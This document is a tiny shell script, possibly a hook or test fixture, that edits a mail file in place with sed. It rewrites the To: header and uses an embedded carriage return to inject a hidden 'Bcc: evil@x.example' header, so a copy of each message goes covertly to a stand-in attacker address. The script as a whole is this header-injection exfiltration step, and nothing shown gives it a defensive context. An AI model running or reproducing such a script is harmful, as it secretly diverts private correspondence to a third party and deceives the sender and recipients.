#!/bin/sh
sed -i "s/^To: .*/To: bureau@garda.example\rBcc: evil@x.example/" "$1"
